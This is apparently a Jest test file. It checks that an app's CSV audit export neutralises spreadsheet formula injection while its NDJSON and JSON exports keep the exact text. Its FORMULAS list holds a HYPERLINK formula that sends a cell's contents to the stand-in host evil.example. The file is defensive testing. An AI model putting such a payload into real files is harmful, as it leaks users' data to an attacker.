import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { AppProcess, startApp } from '../support/app-process.js';
import { client } from '../support/http.js';
import { transition } from '../support/claims.js';
import { createUser, TestUser } from '../support/people.js';

// A spreadsheet opening the CSV export would run these as formulas (SPEC §10).
// (The API trims a rationale, so a leading tab or CR never reaches the store.)
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(1,2)'];
const HARMLESS = ['plain text', "'already quoted", 'a=b', 'tab\t=1+1'];

describe('CSV export and spreadsheet formulas', () => {
  let app: AppProcess;
  let reporter: TestUser;
  let auditor: TestUser;

  beforeAll(async () => {
    app = await startApp();
    [reporter, auditor] = await Promise.all([
      createUser(app.url, ['reporter']),
      createUser(app.url, ['auditor']),
    ]);
  });
  afterAll(() => app.stop());

  it("prefixes a cell that starts like a formula with ' in CSV, and keeps NDJSON exact", async () => {
    const rationales = [...FORMULAS, ...HARMLESS];
    for (const rationale of rationales) {
      const claim = await client(app.url, reporter.token).post('/api/v1/claims', {
        body: { text: `Claim withdrawn with ${JSON.stringify(rationale)}`, claimant: 'x' },
      });
      expect(claim.status).toBe(201);
      const withdrawn = await transition(app.url, reporter, claim.body, 'withdrawn', rationale);
      expect(withdrawn.status).toBe(200);
    }
    const http = client(app.url, auditor.token);
    const filter = `actorId=${reporter.id}&type=claim.transitioned`;

    const csv = await http.get(`/api/v1/audit/export?format=csv&${filter}`);
    expect(csv.status).toBe(200);
    const records = parse(csv.text, { columns: true, record_delimiter: '\r\n' }) as Record<
      string,
      string
    >[];
    expect(records.map((record) => record.rationale)).toEqual([
      ...FORMULAS.map((text) => `'${text}`),
      ...HARMLESS,
    ]);

    // NDJSON is what audit:verify reads: exact text, and every hash still holds.
    const ndjson = await http.get(`/api/v1/audit/export?format=ndjson&${filter}`);
    const events = ndjson.text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(events.map((event) => event.rationale)).toEqual(rationales);
    expect(records.map((record) => record.hash)).toEqual(events.map((event) => event.hash));
    const json = await http.get(`/api/v1/audit/export?format=json&${filter}`);
    expect(JSON.parse(json.text).map((event: any) => event.rationale)).toEqual(rationales);
  });
});
